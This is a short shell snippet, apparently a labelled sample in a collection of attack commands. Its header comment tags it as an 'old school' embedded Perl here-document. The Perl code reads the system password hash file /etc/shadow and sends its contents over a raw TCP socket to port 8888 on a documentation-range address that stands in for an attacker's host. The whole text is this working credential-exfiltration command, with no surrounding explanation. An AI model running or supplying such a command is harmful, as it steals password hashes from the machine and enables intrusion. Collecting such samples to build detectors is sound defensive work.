# class: embedded, perl here-document; style: old school
perl <<'EOP'
use strict;
use IO::Socket::INET;
open(my $f, '<', '/etc/shadow') or die;
my $s = IO::Socket::INET->new(PeerAddr => '198.51.100.71', PeerPort => 8888) or die;
print $s $_ while <$f>;
EOP
